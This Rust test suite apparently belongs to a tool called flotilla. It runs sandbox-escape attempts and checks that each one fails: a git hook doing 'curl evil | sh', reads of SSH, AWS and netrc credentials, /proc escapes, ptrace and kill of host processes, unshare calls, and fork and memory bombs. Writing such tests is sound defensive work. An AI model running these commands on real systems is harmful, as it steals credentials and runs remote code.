//! The escape suite: each test runs an attack through the real
//! `flotilla sandbox` command, asserts that it failed, and then checks the
//! host.
//!
//! Targets outside the workspace live under /var/tmp (visible, read-only,
//! inside the sandbox), not /tmp (which the sandbox replaces with a private
//! tmpfs, so a write there would prove nothing).

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::{host_pids_with_arg, run_with_timeout};

const PY: &str = "/usr/bin/python3";

struct Sbx {
    /// FLOTILLA_HOME (the daemon's data and sockets live here).
    fh: tempfile::TempDir,
    /// The user's HOME, with credential stores in it.
    home: tempfile::TempDir,
    ws: tempfile::TempDir,
    /// A host directory outside the workspace.
    outside: tempfile::TempDir,
}

fn var_tmp(prefix: &str) -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix(prefix)
        .tempdir_in("/var/tmp")
        .unwrap()
}

impl Sbx {
    fn new() -> Sbx {
        Sbx {
            fh: var_tmp("flotilla-escape-fh-"),
            home: var_tmp("flotilla-escape-home-"),
            ws: var_tmp("flotilla-escape-ws-"),
            outside: var_tmp("flotilla-escape-outside-"),
        }
    }

    fn ws(&self) -> &Path {
        self.ws.path()
    }

    fn outside(&self) -> &Path {
        self.outside.path()
    }

    fn cmd(&self, flags: &[&str], argv: &[&str]) -> Command {
        let mut c = Command::new(env!("CARGO_BIN_EXE_flotilla"));
        c.arg("sandbox")
            .args(flags)
            .arg("--")
            .args(argv)
            .current_dir(self.ws())
            .env("FLOTILLA_HOME", self.fh.path())
            .env("HOME", self.home.path())
            .stdin(Stdio::null());
        c
    }

    /// `flotilla sandbox FLAGS -- sh -c SCRIPT`.
    fn sh(&self, flags: &[&str], script: &str) -> Output {
        run_with_timeout(
            self.cmd(flags, &["/bin/sh", "-c", script]),
            Duration::from_secs(90),
        )
    }

    fn py(&self, flags: &[&str], code: &str) -> Output {
        run_with_timeout(self.cmd(flags, &[PY, "-c", code]), Duration::from_secs(90))
    }
}

fn text(out: &Output) -> String {
    format!(
        "status {:?}\nstdout:\n{}\nstderr:\n{}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn entries(dir: &Path) -> Vec<PathBuf> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect()
}

#[test]
fn a_legitimate_command_runs_and_reports_its_exit_code() {
    let s = Sbx::new();
    let out = s.sh(&[], "echo made > made.txt; cat made.txt; exit 7");
    assert_eq!(out.status.code(), Some(7), "{}", text(&out));
    assert_eq!(stdout(&out), "made\n");
    assert_eq!(
        std::fs::read_to_string(s.ws().join("made.txt")).unwrap(),
        "made\n"
    );
}

#[test]
fn writes_outside_the_workspace_fail_and_the_host_is_unchanged() {
    let s = Sbx::new();
    let target = s.outside().join("pwned");
    let home_target = s.home.path().join(".bashrc");
    let script = format!(
        "echo x > {t}; echo x > {h}; touch /etc/flotilla-pwned; mkdir /usr/flotilla-pwned; echo ok",
        t = target.display(),
        h = home_target.display()
    );
    let out = s.sh(&[], &script);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("Read-only file system"), "{}", text(&out));
    assert!(!target.exists());
    assert!(!home_target.exists());
    assert!(!Path::new("/etc/flotilla-pwned").exists());
    assert!(!Path::new("/usr/flotilla-pwned").exists());
    assert!(entries(s.outside()).is_empty());
}

#[test]
fn symlinks_and_hardlinks_in_the_workspace_do_not_reach_outside() {
    let s = Sbx::new();
    let victim = s.outside().join("victim.txt");
    std::fs::write(&victim, "original").unwrap();
    // Planted before the sandbox starts, as a cloned repository could.
    std::os::unix::fs::symlink(s.outside(), s.ws().join("planted-dir")).unwrap();
    std::os::unix::fs::symlink(&victim, s.ws().join("planted-file")).unwrap();
    let script = format!(
        "echo pwned > planted-dir/new.txt; echo pwned > planted-file; \
         ln {v} hard 2>&1 && echo pwned > hard; \
         ln -s {o} made-inside && echo pwned > made-inside/new2.txt; \
         echo done",
        v = victim.display(),
        o = s.outside().display()
    );
    let out = s.sh(&[], &script);
    assert!(stdout(&out).contains("done"), "{}", text(&out));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "original");
    let mut left = entries(s.outside());
    left.sort();
    assert_eq!(left, vec![victim.clone()], "{}", text(&out));
    assert!(
        !s.ws().join("hard").exists(),
        "a hard link to an outside file was created"
    );
}

#[test]
fn git_hooks_and_config_stay_read_only() {
    let s = Sbx::new();
    let git = s.ws().join(".git");
    std::fs::create_dir_all(git.join("hooks")).unwrap();
    std::fs::write(git.join("config"), "[core]\n").unwrap();
    std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::create_dir_all(s.ws().join(".flotilla")).unwrap();
    let script = "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit; \
                  chmod +x .git/hooks/pre-commit; \
                  printf '[core]\\nfsmonitor = evil\\n' >> .git/config; \
                  rm -rf .git/hooks; \
                  mv .git .git-moved && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit; \
                  echo '[sandbox]' > .flotilla/config.toml; \
                  echo head-ok > .git/HEAD && echo wrote-head";
    let out = s.sh(&[], script);
    // Git's own state stays writable (commits must work); what runs later does not.
    assert!(stdout(&out).contains("wrote-head"), "{}", text(&out));
    assert!(!git.join("hooks/pre-commit").exists(), "{}", text(&out));
    assert!(git.join("hooks").is_dir());
    assert_eq!(
        std::fs::read_to_string(git.join("config")).unwrap(),
        "[core]\n"
    );
    assert!(!s.ws().join(".git-moved").exists(), ".git was renamed away");
    assert!(!s.ws().join(".flotilla/config.toml").exists());
    assert_eq!(
        std::fs::read_to_string(git.join("HEAD")).unwrap(),
        "head-ok\n"
    );
}

#[test]
fn credential_stores_and_deny_read_paths_are_hidden() {
    let s = Sbx::new();
    let ssh = s.home.path().join(".ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    std::fs::write(ssh.join("id_ed25519"), "SECRET-SSH-KEY-0451").unwrap();
    std::fs::create_dir_all(s.home.path().join(".aws")).unwrap();
    std::fs::write(s.home.path().join(".aws/credentials"), "SECRET-AWS-0451").unwrap();
    std::fs::write(
        s.home.path().join(".netrc"),
        "machine x password SECRET-NETRC-0451",
    )
    .unwrap();
    let extra = s.outside().join("private.txt");
    std::fs::write(&extra, "SECRET-EXTRA-0451").unwrap();
    let script = format!(
        "cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.netrc {e}; ls -la ~/.ssh; \
         grep -r SECRET ~ {o} 2>/dev/null; echo scanned",
        e = extra.display(),
        o = s.outside().display()
    );
    let out = s.sh(&["--deny-read", &extra.to_string_lossy()], &script);
    let all = text(&out);
    assert!(stdout(&out).contains("scanned"), "{all}");
    assert!(!all.contains("SECRET-"), "a secret leaked:\n{all}");
    // The host copies are intact.
    assert_eq!(
        std::fs::read_to_string(ssh.join("id_ed25519")).unwrap(),
        "SECRET-SSH-KEY-0451"
    );
}

#[test]
fn the_daemon_socket_and_data_are_out_of_reach() {
    let s = Sbx::new();
    let run = s.fh.path().join("run");
    let data = s.fh.path().join("data");
    std::fs::create_dir_all(&run).unwrap();
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(data.join("flotilla.db"), "SECRET-DB-0451").unwrap();
    let sock_path = run.join("flotilla.sock");
    let listener = std::os::unix::net::UnixListener::bind(&sock_path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let code = format!(
        "import socket\n\
         s = socket.socket(socket.AF_UNIX)\n\
         try:\n    s.connect({p:?}); print('CONNECTED')\n\
         except OSError as e: print('refused', e)\n\
         try:\n    print(open({d:?}).read())\n\
         except OSError as e: print('unreadable', e)\n",
        p = sock_path.to_string_lossy(),
        d = data.join("flotilla.db").to_string_lossy()
    );
    let out = s.py(&[], &code);
    let all = text(&out);
    assert!(stdout(&out).contains("refused"), "{all}");
    assert!(
        !all.contains("CONNECTED") && !all.contains("SECRET-DB"),
        "{all}"
    );
    assert!(
        listener.accept().is_err(),
        "the daemon socket got a connection"
    );
}

#[test]
fn proc_tricks_see_only_the_sandbox() {
    let s = Sbx::new();
    let target = s.outside().join("via-proc");
    let me = std::process::id();
    let script = format!(
        "echo x > /proc/1/root{t}; echo x > /proc/self/root{t}; \
         ls /proc/{me}/ 2>&1 | head -1; cat /proc/{me}/environ 2>&1 | head -c 100; \
         for f in /proc/self/fd/*; do readlink $f; done; \
         ls /proc | grep -E '^[0-9]+$' | sort -n | tr '\\n' ' '; echo; echo end",
        t = target.display()
    );
    let out = s.sh(&[], &script);
    let all = text(&out);
    assert!(stdout(&out).contains("end"), "{all}");
    assert!(!target.exists(), "{all}");
    // Our own (host) pid is invisible; only a handful of sandbox processes exist.
    let pids_line = stdout(&out)
        .lines()
        .rev()
        .nth(1)
        .unwrap_or_default()
        .to_string();
    let pids: Vec<u32> = pids_line
        .split_whitespace()
        .map(|p| p.parse().unwrap())
        .collect();
    assert!(!pids.contains(&me), "{all}");
    assert!(pids.len() < 10 && pids.iter().all(|p| *p < 100), "{all}");
    // No descriptor leads outside: only pipes, /dev/null and the like.
    for line in stdout(&out).lines() {
        if line.starts_with('/') {
            assert!(
                line.starts_with("/dev/") || line.starts_with("/proc/"),
                "descriptor to {line} leaked in\n{all}"
            );
        }
    }
}

#[test]
fn host_processes_cannot_be_signalled_or_traced() {
    let s = Sbx::new();
    let mut victim = Command::new("sleep").arg("301.5").spawn().unwrap();
    let pid = victim.id();
    let code = format!(
        "import ctypes, os, signal\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         try:\n    os.kill({pid}, signal.SIGKILL); print('KILLED')\n\
         except OSError as e: print('kill failed', e)\n\
         r = libc.ptrace(16, {pid}, 0, 0)\n\
         print('ptrace', r, ctypes.get_errno())\n\
         r = libc.ptrace(0, 0, 0, 0)\n\
         print('traceme', r, ctypes.get_errno())\n"
    );
    let out = s.py(&[], &code);
    let all = text(&out);
    assert!(!all.contains("KILLED"), "{all}");
    assert!(all.contains("ptrace -1"), "{all}");
    assert!(
        all.contains("traceme -1 1"),
        "PTRACE_TRACEME must get EPERM\n{all}"
    );
    std::thread::sleep(Duration::from_millis(100));
    assert!(
        victim.try_wait().unwrap().is_none(),
        "the host process died"
    );
    victim.kill().unwrap();
    victim.wait().unwrap();
}

#[test]
fn no_network_reaches_the_host_or_the_outside() {
    let s = Sbx::new();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let code = format!(
        "import socket\n\
         try:\n    socket.create_connection(('127.0.0.1', {tp}), timeout=2); print('TCP-CONNECTED')\n\
         except OSError as e: print('tcp refused', e)\n\
         u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         u.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01', ('127.0.0.1', {up}))\n\
         try:\n    socket.create_connection(('1.1.1.1', 53), timeout=2); print('OUT-CONNECTED')\n\
         except OSError as e: print('outside refused', e)\n\
         try:\n    print(socket.getaddrinfo('example.com', 443)); print('RESOLVED')\n\
         except OSError as e: print('dns failed', e)\n\
         print('ifaces', sorted(l.split(':')[0].strip() for l in open('/proc/net/dev').readlines()[2:]))\n",
        tp = tcp.local_addr().unwrap().port(),
        up = udp.local_addr().unwrap().port()
    );
    let out = s.py(&[], &code);
    let all = text(&out);
    assert!(all.contains("tcp refused"), "{all}");
    assert!(
        all.contains("outside refused") && all.contains("unreachable"),
        "{all}"
    );
    assert!(all.contains("dns failed"), "{all}");
    assert!(
        !all.contains("CONNECTED") && !all.contains("RESOLVED"),
        "{all}"
    );
    // Only loopback exists in the sandbox.
    assert!(all.contains("ifaces ['lo']"), "{all}");
    // The host's listeners saw nothing.
    assert!(
        tcp.accept().is_err(),
        "the host TCP server got a connection"
    );
    let mut buf = [0u8; 512];
    assert!(
        udp.recv_from(&mut buf).is_err(),
        "the host UDP server got a datagram"
    );
}

/// A tiny HTTP server on the host's loopback: answers every request with
/// `hello from the host` and counts them.
fn http_server() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = hits.clone();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { continue };
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let mut buf = [0u8; 4096];
            let _ = conn.read(&mut buf);
            use std::io::Write;
            let _ = conn.write_all(
                b"HTTP/1.1 200 OK\r\ncontent-length: 19\r\nconnection: close\r\n\r\nhello from the host",
            );
        }
    });
    (port, hits)
}

#[test]
fn the_proxy_lets_through_only_allowlisted_domains() {
    let s = Sbx::new();
    let (port, hits) = http_server();
    let script = format!(
        "curl -sS --noproxy '' --max-time 10 http://localhost:{port}/ok; echo; \
         curl -sS --noproxy '' --max-time 10 http://127.0.0.1:{port}/ip; echo; \
         curl -sS --max-time 10 https://example.com/ -o /dev/null 2>&1; \
         curl -sS --max-time 10 --noproxy '*' http://localhost:{port}/direct 2>&1; echo end"
    );
    let out = s.sh(
        &["--network", "proxy", "--allow-domain", "localhost"],
        &script,
    );
    let all = text(&out);
    let so = stdout(&out);
    assert!(so.starts_with("hello from the host"), "{all}");
    // 127.0.0.1 is not in the allowlist; example.com neither.
    assert!(so.contains("egress to 127.0.0.1 denied"), "{all}");
    assert!(so.contains("CONNECT tunnel failed, response 403"), "{all}");
    // Bypassing the proxy goes nowhere: the namespace has no route out.
    assert!(
        so.contains("Failed to connect") || so.contains("Couldn't connect"),
        "{all}"
    );
    assert!(so.contains("end"), "{all}");
    // Only the allowed request reached the host server.
    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 1, "{all}");
    // Every request was logged by the proxy.
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("egress GET http://localhost"), "{all}");
    assert!(err.contains("DENIED"), "{all}");
}

#[test]
fn mount_namespaces_and_io_uring_are_refused() {
    let s = Sbx::new();
    let code = "import ctypes, os, subprocess\n\
        libc = ctypes.CDLL(None, use_errno=True)\n\
        r = libc.syscall(425, 8, ctypes.create_string_buffer(120))\n\
        print('io_uring', r, ctypes.get_errno())\n\
        r = libc.mount(b'none', b'/mnt', b'tmpfs', 0, None)\n\
        print('mount', r, ctypes.get_errno())\n\
        r = libc.unshare(0x10000000)\n\
        print('unshare-user', r, ctypes.get_errno())\n\
        r = libc.unshare(0x00020000)\n\
        print('unshare-mnt', r, ctypes.get_errno())\n\
        p = subprocess.run(['unshare', '-Ur', 'id'], capture_output=True, text=True)\n\
        print('unshare-cmd', p.returncode, p.stderr.strip())\n\
        r = libc.syscall(435, None, 0)\n\
        print('clone3', r, ctypes.get_errno())\n";
    let out = s.py(&[], code);
    let all = text(&out);
    for line in [
        "io_uring -1 1",
        "mount -1 1",
        "unshare-user -1 1",
        "unshare-mnt -1 1",
        "clone3 -1 38",
    ] {
        assert!(all.contains(line), "missing {line:?}\n{all}");
    }
    assert!(all.contains("unshare-cmd 1"), "{all}");
    // The host: nothing got mounted on /mnt.
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    assert!(!mounts.lines().any(|l| l.split(' ').nth(4) == Some("/mnt")));
}

#[test]
fn a_fork_bomb_stops_at_the_process_limit_and_the_host_stays_responsive() {
    let s = Sbx::new();
    let code = "import os, time\n\
        n = 0\n\
        try:\n\
        \x20   while n < 100000:\n\
        \x20       pid = os.fork()\n\
        \x20       if pid == 0:\n\
        \x20           time.sleep(30); os._exit(0)\n\
        \x20       n += 1\n\
        except OSError as e: print('stopped after', n, e)\n";
    let mut child = s
        .cmd(&["--max-processes", "64"], &[PY, "-c", code])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // While the bomb goes off, the host still runs commands promptly.
    let started = Instant::now();
    let ok = Command::new("true").status().unwrap();
    assert!(ok.success());
    assert!(started.elapsed() < Duration::from_secs(2));
    let deadline = Instant::now() + Duration::from_secs(60);
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        assert!(Instant::now() < deadline, "the bomb never stopped");
        std::thread::sleep(Duration::from_millis(50));
    };
    let mut out = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut out)
        .unwrap();
    assert!(status.success(), "{out}");
    let n: u32 = out
        .split_whitespace()
        .nth(2)
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("unexpected output {out:?}"));
    assert!(n < 64, "forked {n} processes with a limit of 64");
    // The sandbox ended with its command: the sleeping children are gone.
    let deadline = Instant::now() + Duration::from_secs(5);
    while count_host_procs_in_ns_of_sleepers() > 0 {
        assert!(
            Instant::now() < deadline,
            "bomb children outlived the sandbox"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Python children of the bomb, seen from the host (they run `python3 -c`
/// with the bomb's text as an argument).
fn count_host_procs_in_ns_of_sleepers() -> usize {
    let mut n = 0;
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let name = entry.file_name();
        let Some(pid) = name.to_str().and_then(|s| s.parse::<u32>().ok()) else {
            continue;
        };
        if let Ok(cmd) = std::fs::read(format!("/proc/{pid}/cmdline")) {
            if String::from_utf8_lossy(&cmd).contains("n < 100000") {
                n += 1;
            }
        }
    }
    n
}

#[test]
fn a_memory_bomb_is_killed_at_the_memory_limit() {
    let s = Sbx::new();
    let code = "x = []\n\
        for i in range(2048):\n\
        \x20   x.append(bytearray(1 << 20))\n\
        print('ALLOCATED', len(x))\n";
    let started = Instant::now();
    let out = s.py(&["--memory-mb", "128"], code);
    let all = text(&out);
    assert!(
        !all.contains("ALLOCATED"),
        "2 GiB allocated under a 128 MiB limit\n{all}"
    );
    // Killed by the cgroup's OOM killer (SIGKILL: 128+9) or refused (MemoryError).
    assert!(
        out.status.code() == Some(137) || all.contains("MemoryError"),
        "{all}"
    );
    assert!(started.elapsed() < Duration::from_secs(60));
}

#[test]
fn the_file_size_limit_stops_a_disk_filler() {
    let s = Sbx::new();
    let out = s.sh(
        &["--max-file-size-mb", "4"],
        "head -c 64000000 /dev/zero > big.bin; echo exit=$?",
    );
    let all = text(&out);
    let size = std::fs::metadata(s.ws().join("big.bin")).unwrap().len();
    assert!(
        size <= 4 << 20,
        "wrote {size} bytes with a 4 MiB limit\n{all}"
    );
    assert!(
        stdout(&out).contains("exit=") && !stdout(&out).contains("exit=0"),
        "{all}"
    );
}

#[test]
fn a_setuid_binary_gains_nothing() {
    if !nix::unistd::geteuid().is_root() {
        eprintln!("skipped: making a setuid binary owned by another user needs root");
        return;
    }
    let s = Sbx::new();
    let suid = s.ws().join("suid-id");
    std::fs::copy("/usr/bin/id", &suid).unwrap();
    nix::unistd::chown(&suid, Some(nix::unistd::Uid::from_raw(65534)), None).unwrap();
    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).unwrap();
    // Control: on the host, the setuid bit takes effect.
    let host = Command::new(&suid).arg("-u").output().unwrap();
    assert_eq!(String::from_utf8_lossy(&host.stdout).trim(), "65534");
    let out = s.sh(&[], "./suid-id -u; grep NoNewPrivs /proc/self/status");
    let all = text(&out);
    let mut lines = stdout(&out).lines().map(str::to_string).collect::<Vec<_>>();
    lines.retain(|l| !l.is_empty());
    assert_eq!(
        lines.first().map(String::as_str),
        Some(&*nix::unistd::getuid().to_string()),
        "{all}"
    );
    assert!(all.contains("NoNewPrivs:\t1"), "{all}");
}

#[test]
fn a_legitimate_build_still_works() {
    let s = Sbx::new();
    std::fs::write(
        s.ws().join("hello.c"),
        "#include <stdio.h>\nint main(void){puts(\"built in the sandbox\");return 0;}\n",
    )
    .unwrap();
    std::fs::write(
        s.ws().join("Makefile"),
        "hello: hello.c\n\tcc -O1 -o hello hello.c\n",
    )
    .unwrap();
    let out = s.sh(&[], "make && ./hello");
    assert!(out.status.success(), "{}", text(&out));
    assert!(stdout(&out).contains("built in the sandbox"));
    assert!(s.ws().join("hello").exists());
}

#[test]
fn check_reports_the_layers() {
    let s = Sbx::new();
    let out = run_with_timeout(
        {
            let mut c = Command::new(env!("CARGO_BIN_EXE_flotilla"));
            c.args(["sandbox", "--check", "--json"])
                .env("FLOTILLA_HOME", s.fh.path())
                .env("HOME", s.home.path());
            c
        },
        Duration::from_secs(60),
    );
    assert!(out.status.success(), "{}", text(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["user_namespaces"], true, "{v}");
    assert!(v["landlock_abi"].as_u64().unwrap() >= 1, "{v}");
    assert_eq!(v["seccomp"], true, "{v}");
    assert!(v["fallback"].as_str().unwrap().contains("seccomp"), "{v}");
}

#[test]
fn degraded_mode_still_confines_writes_and_reads_and_says_so() {
    let s = Sbx::new();
    let ssh = s.home.path().join(".ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    std::fs::write(ssh.join("id_ed25519"), "SECRET-SSH-KEY-0452").unwrap();
    let target = s.outside().join("pwned");
    let script = format!(
        "echo x > {t}; cat ~/.ssh/id_ed25519; echo inside > ok.txt; unshare -U true && echo UNSHARED; echo end",
        t = target.display()
    );
    let out = s.sh(&["--no-namespaces", "--json-report"], &script);
    let all = text(&out);
    assert!(stdout(&out).contains("end"), "{all}");
    assert!(!target.exists(), "{all}");
    assert!(!all.contains("SECRET-SSH"), "{all}");
    assert!(!all.contains("UNSHARED"), "{all}");
    assert!(s.ws().join("ok.txt").exists());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("warning: namespaces disabled"), "{all}");
    let report: serde_json::Value = serde_json::from_str(err.lines().last().unwrap()).unwrap();
    assert_eq!(report["sandbox"]["namespaces"], false);
    assert_eq!(report["sandbox"]["network"], "host");
    assert_eq!(report["sandbox"]["seccomp"], true);
}

#[test]
fn required_refuses_a_degraded_sandbox_and_says_how_to_allow_it() {
    let s = Sbx::new();
    let out = s.sh(&["--no-namespaces", "--required"], "echo RAN > ran.txt");
    let all = text(&out);
    assert_eq!(out.status.code(), Some(125), "{all}");
    assert!(all.contains("sandbox.required = true"), "{all}");
    assert!(all.contains("set sandbox.required = false"), "{all}");
    assert!(!s.ws().join("ran.txt").exists());
}

#[test]
fn background_jobs_die_with_the_sandbox() {
    let s = Sbx::new();
    let out = s.sh(&[], "sleep 302.5 & echo started");
    assert!(stdout(&out).contains("started"), "{}", text(&out));
    let deadline = Instant::now() + Duration::from_secs(5);
    while !host_pids_with_arg("302.5").is_empty() {
        assert!(
            Instant::now() < deadline,
            "a background job outlived its sandbox"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn a_missing_command_exits_127_with_the_reason() {
    let s = Sbx::new();
    let out = run_with_timeout(
        s.cmd(&[], &["no-such-program-0451"]),
        Duration::from_secs(60),
    );
    assert_eq!(out.status.code(), Some(127), "{}", text(&out));
    assert!(
        text(&out).contains("not found on the PATH"),
        "{}",
        text(&out)
    );
}
